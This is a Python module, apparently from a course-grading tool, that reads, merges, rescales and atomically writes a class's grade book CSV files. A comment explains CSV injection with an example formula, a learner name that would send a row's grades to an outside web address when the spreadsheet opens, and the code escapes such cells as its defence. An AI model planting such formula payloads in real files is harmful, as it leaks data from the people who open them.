"""The class's grade book, two files in the submissions folder: written whole, and kept when ONLY= regrades
some of the exercises.

    grades.csv           learner, ex01 (/10), ..., ex07 (/15), total (/100)      one row per learner
    grades_reasons.csv   learner, exercise, file, points, reason     one row per learner and exercise

Each column's header says what it is out of (the exercise's points, graders.EXERCISES), in the header row, which a
spreadsheet's sort leaves on top and an LMS import takes for the column's name. When the points declaration changes
between two gradings (ex03 from 10 to 12), the earlier grades are read out of the points their header gives, and
each kept one is rescaled to today's (`rescaled`): a pass (10 of 10) is a pass (12), a 0 a 0, and a grade given by
hand (7 of 10) is its share of today's points rounded half up (8), named in the line that says what was kept, as
only the instructor knows whether it was a share or points taken off. The total's "(/100)" is not read back: it is
the sum of the columns', written again, as the totals are. A grades.csv written before the header said this
(learner, ex01, ..., total) is read as it always was, each column out of today's points.

Each file is written into a temporary file beside it, then moved over it (scratch.atomic_write: os.replace,
one step on one file system): an interrupted run leaves the earlier file or the new one, never half of one. Both
temporary files are written before either is moved: a write that fails (a full disk) leaves both earlier files. A
run stopped while it grades (Ctrl-C, SIGTERM) writes neither: the grades it had given are kept in
grades_progress.json for the same make grade again (progress.py), which writes both for the whole class.

`make grade ONLY=ex03` regrades ex03 and keeps the rest. When grades.csv exists, the new ex03 grades replace
its ex03 column and the ex03 rows of grades_reasons.csv; every other column is kept with its reasons, a learner
found only in the earlier file keeps their row, the columns stay in course order, and each total is the sum of
the columns now present.

Without ONLY= both files are written afresh, unless the earlier grade book holds what the fresh one would lose
(`lost`): a grade given by hand that the grader does not give again, a total changed by hand, the row of a learner
whose folder is gone, or a book that cannot be understood (a column of comments, not UTF-8 ...). Then the earlier
files are first moved aside (`keep_aside`) to grades_earlier.csv and grades_reasons_earlier.csv, or, when an earlier
run kept a book there already, to the first free number, grades_earlier_2.csv and grades_reasons_earlier_2.csv:
a book kept aside is never written over, and the two files of one book keep one number.

The earlier files are read before any submission runs, as the submissions are: a submission that rewrites
grades.csv while it is graded changes nothing that is kept. One that cannot be understood (not UTF-8, another
header, a points value that is not a whole number from 0 to the exercise's points, a learner twice) is refused
in one line that names it and what is wrong, before anything is graded: a grade book is not guessed at. When
grades_reasons.csv is missing, each kept grade's reason is REASON_NOT_KEPT and its file is empty.

A grade changed by hand in grades.csv (a late penalty, a partial mark) no longer has the points grades_reasons.csv
gives it: its reason becomes "given by hand in grades.csv (the grader gave 10: <its reason>)", so that the reasons
file says what grades.csv says, and the next run still knows it for a hand-given grade ("the grader gave 10 of 10"
when the exercise is worth other points now: the grade beside it is rescaled, the grader's points are not).
When ONLY= regrades an exercise, a hand-given grade it replaces with other points (one not the grader's: marked
so, or neither 0 nor the exercise's points) is named in the line that says what was kept: the learner resubmitted,
or the hand edit is to be made again, and either way the instructor is told. So is a total that is not the sum of
its row's columns (a bonus typed into it, or a total left as it was when a column was changed): a total is summed
again, never kept.
"""

from __future__ import annotations

import csv
import io
import math
import os
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from fractions import Fraction
from pathlib import Path

from keras_models.course.exercises.graders import EXERCISES, Exercise
from keras_models.course.instructor.sandbox import escaped
from keras_models.twins.counted import counted
from scratch.atomic_write import atomic_path

GRADES, REASONS = "grades.csv", "grades_reasons.csv"
REASONS_HEADER = ["learner", "exercise", "file", "points", "reason"]
OLD_REASONS_HEADER = ["learner", "exercise", "points", "reason"]      # written before the file column: still read
REASON_NOT_KEPT = "(graded earlier; reason not kept)"                  # a kept grade whose reason cannot be found
BY_HAND = "given by hand in grades.csv"               # how a reason starts whose points grades.csv changed by hand
KEPT_ASIDE = re.compile(r"grades(?:_reasons)?_earlier(?:_[1-9][0-9]*)?\.csv")   # keep_aside's names for an earlier book
OUT_OF = re.compile(r"(?P<name>[^(]*?)\s*\(\s*/\s*(?P<out_of>[^)]*?)\s*\)")   # "ex03 (/12)": a column, its maximum
# A spreadsheet opening a CSV file runs a cell that starts with =, +, - or @ as a formula (OWASP's "CSV injection"):
# a learner folder named =HYPERLINK("http://...?"&B2,"x") (a name on the LMS, which the learner chose) could send
# the row's grades away when the instructor opens grades.csv, "+1" showed as 1 and "-rf" as #NAME?. Such a cell is
# written with a ' before it, which spreadsheets take for "this is text"; reading it back takes one ' off again. A
# cell that starts with ' and then one of those gets one ' more, so every name and reason comes back as it was.
AS_FORMULA = re.compile(r"'*[=+\-@\t\r]")                # written with one ' more
WRITTEN_AS_TEXT = re.compile(r"'+[=+\-@\t\r]")           # read back with one ' less
ONLY_ADVICE = ("ONLY= would keep the other exercises' grades from it: move it away, or grade all the exercises "
               "(no ONLY=)")


class Unreadable(ValueError):
    """An earlier grade book that cannot be understood; `problem` names the file and what is wrong, the message
    adds what to do under ONLY= (`advice`, from its first character)."""

    def __init__(self, problem: str, advice: str = f"; {ONLY_ADVICE}"):
        super().__init__(problem + advice)
        self.problem = problem


@dataclass(frozen=True)
class Grade:
    """One learner's grade for one exercise: a cell of grades.csv, a row of grades_reasons.csv."""
    file: str            # the learner's file graded, relative to their folder; "" when none was found
    points: int          # a PASS scores the exercise's points, anything else 0 (a hand-edited grades.csv: any)
    reason: str          # one line: the grader's summary, or why it is a 0
    cpu_at_wall_limit: float | None = None   # this run's alone, not written: the Verdict's (sandbox.py), for
                                             # grade_class.starved_warning
    out_of_time: bool = False                # this run's alone, not written: the Verdict's, for
                                             # grade_class.time_limit_warning


Book = dict[str, dict[str, Grade]]       # {learner: {exercise name: Grade}}, the learners in the files' order


@dataclass(frozen=True)
class Earlier:
    """The grade book an earlier run left in the submissions folder."""
    exercises: list[Exercise]            # the columns of its grades.csv, as the course declares them today
    grades: Book                         # its rows as written, each grade with its file and reason (grades_reasons.csv)
    totals: dict[str, str]               # {learner: total} of the rows whose total is not their columns' sum
    out_of: dict[str, int] = field(default_factory=dict)   # {exercise name: what its header says it was out of}, for
    #                                      each column whose points differ from today's (an older header says none)

    def points_then(self, name: str, points: int) -> str:
        """`points` of exercise `name` as grades.csv wrote them: "7", or "7 of 10" when the exercise is worth other
        points now."""
        return f"{points} of {self.out_of[name]}" if name in self.out_of else str(points)

    def on_todays_points(self, grade: Grade, exercise: Exercise) -> Grade:
        """`grade` of `exercise` out of today's points (rescaled)."""
        was = self.out_of.get(exercise.name, exercise.points)
        return replace(grade, points=rescaled(grade.points, was, exercise.points))


def rescaled(points: int, was: int, now: int) -> int:
    """`points` out of `was`, as a whole number out of `now`: points * now / was, rounded half up (3.5 -> 4). A pass
    (was) is a pass (now), a 0 a 0."""
    return math.floor(Fraction(points * now, was) + Fraction(1, 2))


# --- writing ------------------------------------------------------------------------------------------------

def write(folder: Path, exercises: list[Exercise], grades: Book) -> None:
    """Write folder/grades.csv and folder/grades_reasons.csv: a column (and a row per learner) for each exercise."""
    table = [["learner", *(f"{e.name} (/{e.points})" for e in exercises),             # what each is out of
              f"total (/{sum(e.points for e in exercises)})"]]
    reasons = [REASONS_HEADER]
    for learner, mine in grades.items():
        scores = [mine[e.name].points for e in exercises]
        table.append([learner, *scores, sum(scores)])
        reasons += [[learner, e.name, mine[e.name].file, mine[e.name].points, mine[e.name].reason]
                    for e in exercises]
    # both temporary files are written before either is moved over its file: a failed write (a full disk, Ctrl-C)
    # leaves both earlier files whole. The blocks end innermost first: grades.csv, whose presence makes the next
    # ONLY= run merge, is moved last, so a failed move of the reasons leaves the earlier grades.csv too.
    with atomic_path(folder / GRADES) as grades_temporary, atomic_path(folder / REASONS) as reasons_temporary:
        _write_rows(reasons_temporary, reasons)
        _write_rows(grades_temporary, table)


def _write_rows(path: Path, rows: list[list]) -> None:
    """Write `rows` to the CSV file at `path` (a temporary file of scratch.atomic_write's)."""
    with open(path, "w", newline="", encoding="utf-8") as file:
        csv.writer(file, lineterminator="\n").writerows([[as_text(value) for value in row] for row in rows])


def as_text(value: object) -> object:
    """`value` as a spreadsheet shows it as text: a ' before a string it would run as a formula (AS_FORMULA)."""
    return f"'{value}" if isinstance(value, str) and AS_FORMULA.match(value) else value


def from_text(value: str) -> str:
    """A value of the grade book as it was before `as_text` wrote it."""
    return value[1:] if WRITTEN_AS_TEXT.match(value) else value


# --- reading an earlier grade book --------------------------------------------------------------------------

def read_earlier(folder: Path) -> Earlier | None:
    """The grade book in `folder`, or None when it has no grades.csv. An Unreadable (a ValueError) naming the file
    and what is wrong when it cannot be understood."""
    path = folder / GRADES
    if not path.exists():
        if (folder / REASONS).exists():     # its other exercises' rows would be replaced by this run's, unsaid
            raise Unreadable(f"{folder / REASONS} is here without {GRADES}", ": ONLY= would write it again with the "
                             f"regraded exercises' rows alone; put {GRADES} back, move {REASONS} away, or grade all "
                             "the exercises (no ONLY=)")
        return None
    header, rows = _rows(path)
    exercises, out_of = _columns(path, header)
    grades: Book = {}
    totals: dict[str, str] = {}
    first_line: dict[str, int] = {}
    for line, row in rows:
        learner = row[0]
        if not learner.strip():
            raise _cannot(path, f"line {line} names no learner")
        if same_name(learner) in first_line:             # Zoë twice, once with ë as e and a combining accent
            raise _cannot(path, f"two rows for {learner}: lines {first_line[same_name(learner)]} and {line}")
        first_line[same_name(learner)] = line
        grades[learner] = {e.name: Grade("", _points(path, line, learner, e.name, out_of[e.name], value),
                                         REASON_NOT_KEPT)
                           for e, value in zip(exercises, row[1:-1], strict=True)}
        # the last value, the total, is not kept: it is the sum of the columns, written again, and one changed by
        # hand (a bonus) is named when it is summed again
        total = row[-1].strip()
        if not _is_number(total, sum(grade.points for grade in grades[learner].values())):
            totals[learner] = total
    today = {e.name: e.points for e in exercises}
    for (learner, exercise_name), (file, points, reason) in _reasons(folder / REASONS).items():
        if exercise_name in grades.get(learner, {}):     # the points stay grades.csv's, where a hand edit goes
            kept = grades[learner][exercise_name]
            if points != str(kept.points) and not reason.startswith(BY_HAND):
                # out of the points then, when they are not today's: the grade beside it is rescaled (on_todays_points)
                then = f" of {out_of[exercise_name]}" if out_of[exercise_name] != today[exercise_name] else ""
                reason = f"{BY_HAND} (the grader gave {points}{then}: {reason})"
            grades[learner][exercise_name] = replace(kept, file=file, reason=reason)
    return Earlier(exercises, grades, totals, {e.name: out_of[e.name] for e in exercises if out_of[e.name] != e.points})


def _is_number(text: str, number: int) -> bool:
    """Whether `text` is `number` written as a number ("25", "25.0", as a spreadsheet may save it)."""
    try:
        return float(text) == number
    except ValueError:
        return False


def by_hand(grade: Grade, out_of: int) -> bool:
    """Whether `grade`, out of `out_of`, was not the grader's: changed by hand in grades.csv, or a mark no grader
    gives."""
    return grade.reason.startswith(BY_HAND) or grade.points not in (0, out_of)


def _reasons(path: Path) -> dict[tuple[str, str], tuple[str, str, str]]:
    """{(learner, exercise name): (file, points, reason)} from grades_reasons.csv, the points as written there;
    {} when there is none."""
    if not path.exists():
        return {}
    header, rows = _rows(path)
    if header not in (REASONS_HEADER, OLD_REASONS_HEADER):
        raise _cannot(path, f"its first line is {','.join(header)!r}, not {','.join(REASONS_HEADER)!r}")
    found: dict[tuple[str, str], tuple[str, str, str]] = {}
    first_line: dict[tuple[str, str], int] = {}
    for line, row in rows:
        fields = dict(zip(header, row, strict=True))
        key = (fields["learner"], fields["exercise"])
        if key in first_line:
            raise _cannot(path, f"two rows for {key[0]} and {key[1]}: lines {first_line[key]} and {line}")
        first_line[key] = line
        found[key] = (fields.get("file", ""), fields["points"].strip(), fields["reason"])
    return found


def _rows(path: Path) -> tuple[list[str], list[tuple[int, list[str]]]]:
    """The first line of the CSV file at `path` (each name stripped of spaces), and each later line that is not
    blank, with its line number; a line with another number of values than the first is refused."""
    try:
        text = path.read_bytes().decode("utf-8-sig")       # -sig: a spreadsheet may have saved it with a BOM
    except UnicodeDecodeError as error:
        raise _cannot(path, f"not UTF-8 text: byte 0x{error.object[error.start]:02x} at position "
                            f"{error.start}") from None
    except OSError as error:
        raise _cannot(path, f"it cannot be read: {error.strerror or error}") from None
    reader = csv.reader(io.StringIO(text, newline=""))
    try:
        rows = [(reader.line_num, [from_text(value) for value in row]) for row in reader
                if any(value.strip() for value in row)]
    except csv.Error as error:
        raise _cannot(path, f"not CSV: {error}") from None
    if not rows:
        raise _cannot(path, "it is empty")
    (_, header), *rest = rows
    for mark, named in ((";", "';'"), ("\t", "tabs")):   # a spreadsheet in a language that writes 0,5 saves ';'
        if len(header) == 1 and mark in header[0]:
            raise _cannot(path, f"its values are separated by {named}, not commas: save it again as CSV with commas "
                                "(a spreadsheet's \"CSV UTF-8 (comma delimited)\")")
    for line, row in rest:
        if len(row) != len(header):
            raise _cannot(path, f"line {line} has {len(row)} values, the first line {len(header)}")
    return [name.strip() for name in header], rest


def _columns(path: Path, header: list[str]) -> tuple[list[Exercise], dict[str, int]]:
    """The exercises of grades.csv's columns, from its first line: learner, exercise ids, total, each id and the
    total perhaps with what it is out of ("ex03 (/12)"); and {exercise name: what its column is out of}, the points
    its header gives or, in an older header that gives none, the exercise's today."""
    names = [header[0], *(_out_of(path, column)[0] for column in header[1:])]
    if len(names) < 3 or names[0] != "learner" or names[-1] != "total":
        raise _cannot(path, f"its first line is {','.join(header)!r}, not learner, exercise ids, total")
    known = {exercise.name: exercise for exercise in EXERCISES}
    out_of: dict[str, int] = {}
    for name, column in zip(names[1:-1], header[1:-1], strict=True):
        if name not in known:
            raise _cannot(path, f"its column {column!r} is not an exercise: they are {', '.join(known)}")
        if name in out_of:
            raise _cannot(path, f"two {name} columns")
        out_of[name] = _out_of(path, column)[1] or known[name].points
    return [known[name] for name in out_of], out_of


def _out_of(path: Path, column: str) -> tuple[str, int | None]:
    """A column's header as (name, what it is out of): "ex03 (/12)" is ("ex03", 12), "ex03" ("ex03", None)."""
    match = OUT_OF.fullmatch(column)
    if match is None:
        return column, None
    name, out_of = match["name"], match["out_of"]
    if not (out_of.isascii() and out_of.isdigit() and int(out_of) > 0):        # isdigit: no sign, no point
        raise _cannot(path, f"its column {column!r} says {name} was out of {out_of!r}, not a whole number above 0")
    return name, int(out_of)


def _points(path: Path, line: int, learner: str, name: str, out_of: int, value: str) -> int:
    """`value` as points for exercise `name`: a whole number from 0 to what its column is out of."""
    text = value.strip()
    if not (text.isascii() and text.isdigit() and int(text) <= out_of):    # isdigit: no sign, no point
        raise _cannot(path, f"line {line} gives {learner} {value!r} for {name}, not a whole number from 0 to {out_of}")
    return int(text)


def _cannot(path: Path, problem: str) -> Unreadable:
    return Unreadable(f"{path}: {problem}")


# --- merging ------------------------------------------------------------------------------------------------

def roll_key(learner: str) -> tuple[str, str]:
    """Where `learner` goes in a class list: alphabetically whatever the case ("alice", "Bob", "carol"), where
    Python's own order puts every capital first ("Bob", "Zoë", "alice")."""
    return learner.casefold(), learner


def named(learner: str) -> str:
    """`learner` as a line that lists learners with commas names them: escaped as in the table (sandbox.escaped), and
    in double quotes, as grades.csv writes it, when the name holds a comma or starts or ends with a space: "the
    rows of bob, Smith, Ann" named two learners or three."""
    shown = escaped(learner)
    if "," in shown or shown != shown.strip():
        return '"' + shown.replace('"', '""') + '"'
    return shown


def in_roll_order(learners) -> list[str]:
    return sorted(learners, key=roll_key)


def same_name(learner: str) -> str:
    """`learner` in one Unicode form (NFC): a folder named "Zoë" on a Mac, or unzipped from a Mac's zip, spells ë
    as e and a combining accent (NFD), a grades.csv saved elsewhere as one character -- the same learner."""
    return unicodedata.normalize("NFC", learner)


def merge(earlier: Earlier, regraded: list[Exercise], grades: Book) -> tuple[list[Exercise], Book, str]:
    """(columns, grades, the one line that says what was kept): the `regraded` exercises' `grades` over `earlier`."""
    columns = [e for e in EXERCISES if e in regraded or e in earlier.exercises]          # course order
    only = ",".join(e.name for e in regraded)
    named_now = _named_now(grades)
    earlier_grades = {named_now(learner): mine for learner, mine in earlier.grades.items()}
    merged: Book = {}
    replaced: list[str] = []                         # hand-given grades this run's grading replaced
    rescaled_by_hand: dict[Exercise, list[str]] = {}   # kept grades out of other points than today's: those by hand
    for learner in in_roll_order(grades.keys() | earlier_grades.keys()):
        now, before = grades.get(learner, {}), earlier_grades.get(learner, {})
        merged[learner] = {}
        for exercise in columns:
            if exercise.name in now:                 # graded in this run
                merged[learner][exercise.name] = now[exercise.name]
                if _hand_given_lost(earlier, before, now, exercise):
                    replaced.append(f"{named(learner)} {exercise.name} "
                                    f"{earlier.points_then(exercise.name, before[exercise.name].points)} "
                                    f"(now {now[exercise.name].points})")
            elif exercise.name in before:            # kept: not regraded, or no folder for this learner now
                merged[learner][exercise.name] = earlier.on_todays_points(before[exercise.name], exercise)
                if exercise.name in earlier.out_of:  # worth other points now: rescaled, and one given by hand named
                    was = earlier.out_of[exercise.name]
                    rescaled_by_hand.setdefault(exercise, [])
                    if by_hand(before[exercise.name], was):
                        rescaled_by_hand[exercise].append(
                            f"{named(learner)} {before[exercise.name].points} -> "
                            f"{merged[learner][exercise.name].points}"
                            + _share(before[exercise.name].points, was, exercise.points))
            elif learner in grades:                  # a learner new since the earlier run
                merged[learner][exercise.name] = Grade("", 0, f"not graded: the earlier grades.csv has no row for "
                                                              f"{named(learner)}, and ONLY={only} left "
                                                              f"{exercise.name} out")
            else:                                    # no folder now, and no such column before
                merged[learner][exercise.name] = Grade("", 0, f"not graded: {named(learner)} has no folder now, and "
                                                              f"the earlier grades.csv has no {exercise.name}")
    kept = ", ".join(e.name for e in columns if e not in regraded)
    gone = ", ".join(map(named, in_roll_order(earlier_grades.keys() - grades.keys())))
    what = " and ".join(filter(None, [kept, gone and f"the rows of {gone} (no folder now)"]))
    regraded_names = ", ".join(e.name for e in regraded)
    line = (f"kept {what} from the earlier grades.csv (ONLY={only} regraded {regraded_names})" if what
            else f"replaced the earlier grades.csv: ONLY={only} regraded all it held")
    for exercise, hand_given in rescaled_by_hand.items():
        was = earlier.out_of[exercise.name]
        line += (f"; {exercise.name} was out of {was} there and is out of {exercise.points} now: its kept grades were "
                 f"rescaled ({was} is {exercise.points} now, 0 stays 0)")
        if hand_given:
            line += (f", as were these given by hand: {', '.join(hand_given)} (give them again if they should be "
                     "otherwise)")
    summed_again: list[str] = []                     # totals changed by hand (a bonus): not kept, and said so
    for learner, total in earlier.totals.items():
        learner = named_now(learner)
        summed_again.append(f"{named(learner)} {total} (now {sum(g.points for g in merged[learner].values())})")
    if summed_again:
        line += (f"; a total is the sum of the exercises' columns, so these totals it gave were summed again: "
                 f"{', '.join(summed_again)}")
    if replaced:
        line += (f"; the regrading replaced {counted(len(replaced), 'grade')} given by hand there: "
                 f"{', '.join(replaced)} (give them again if they still stand)")
    return columns, merged, line


def _named_now(grades: Book) -> Callable[[str], str]:
    """An earlier row's learner by today's name: the same name in another Unicode form (a Mac's e and an accent for
    ë) is the folder's spelling now; a name with no folder now stays as it was."""
    now = {same_name(learner): learner for learner in grades}
    return lambda learner: now.get(same_name(learner), learner)


def _share(points: int, was: int, now: int) -> str:
    """" (8.4, rounded)" when `points` out of `was` is no whole number out of `now`; else ""."""
    share = Fraction(points * now, was)
    return "" if share.denominator == 1 else f" ({round(float(share), 2):g}, rounded)"


def _hand_given_lost(earlier: Earlier, before: dict[str, Grade], now: dict[str, Grade], exercise: Exercise) -> bool:
    """Whether an earlier grade given by hand for `exercise` (in `earlier`'s row `before`) is not what this run's
    grades hold: the grader now gives other points (than the grade's, out of today's), or (a whole class graded
    afresh) gives none for it."""
    hand = before.get(exercise.name)
    return (hand is not None and by_hand(hand, earlier.out_of.get(exercise.name, exercise.points))
            and (exercise.name not in now
                 or earlier.on_todays_points(hand, exercise).points != now[exercise.name].points))


# --- a whole class graded again: what the earlier book held that the fresh one does not ------------------------

def lost(earlier: Earlier, grades: Book) -> str:
    """What `earlier` holds that `grades`, a whole class graded afresh, would lose when written over it, in words
    ("2 grades given by hand (ann ex01 8, bob ex02 5), 1 total changed by hand (cy 30) and a row for dan, whose
    folder is gone"); "" when nothing. A grade given by hand whose points the grader now gives too is not lost."""
    named_now = _named_now(grades)
    hand_given, totals, gone = [], [], []
    for learner, mine in earlier.grades.items():
        now = grades.get(named_now(learner))
        if now is None:
            gone.append(learner)
            continue
        hand_given += [f"{named(learner)} {e.name} {earlier.points_then(e.name, mine[e.name].points)}"
                       for e in earlier.exercises if _hand_given_lost(earlier, mine, now, e)]
        if learner in earlier.totals and not _is_number(earlier.totals[learner], sum(g.points for g in now.values())):
            totals.append(f"{named(learner)} {earlier.totals[learner]}")
    held = [f"{counted(len(hand_given), 'grade')} given by hand ({', '.join(hand_given)})" if hand_given else "",
            f"{counted(len(totals), 'total')} changed by hand ({', '.join(totals)})" if totals else "",
            (f"a row for {named(gone[0])}, whose folder is gone" if len(gone) == 1 else
             f"rows for {', '.join(map(named, gone))}, whose folders are gone") if gone else ""]
    held = [words for words in held if words]
    return " and ".join(filter(None, [", ".join(held[:-1]), held[-1]])) if held else ""


def earlier_name(name: str, number: int) -> str:
    """grades.csv's name kept aside: grades_earlier.csv (number 1), grades_earlier_2.csv (2) ..."""
    return f"{name.removesuffix('.csv')}_earlier{'' if number == 1 else f'_{number}'}.csv"


def keep_aside(folder: Path) -> list[tuple[str, str]]:
    """Move the grade book's files in `folder` (os.replace) to their earlier_name with the first number that neither
    file's name has yet: [(name, kept as)], grades.csv first (and moved last, as it is written last)."""
    number = 1
    while any(os.path.lexists(folder / earlier_name(name, number)) for name in (GRADES, REASONS)):
        number += 1
    moved = []
    for name in (REASONS, GRADES):
        if os.path.lexists(folder / name):
            os.replace(folder / name, folder / earlier_name(name, number))
            moved.insert(0, (name, earlier_name(name, number)))
    return moved


def keep_what_would_be_lost(submissions: Path, grades: Book) -> str:
    """Before a whole class's fresh grade book is written: the earlier one moved aside when it holds what the fresh
    one would lose (lost), or cannot be understood, and the one line that says so; "" when nothing would
    be lost, and nothing is moved."""
    try:
        earlier = read_earlier(submissions)
        held = f"it held {words}" if earlier is not None and (words := lost(earlier, grades)) else ""
    except Unreadable as error:
        held = f"it could not be read as a grade book ({error.problem}), so what was typed into it could not be told"
    if not held:
        return ""
    moved = keep_aside(submissions)
    return (f"kept the earlier {', '.join(name for name, _ in moved)} as {', '.join(kept for _, kept in moved)}: "
            f"{held}; copy what still stands into the new {GRADES}")
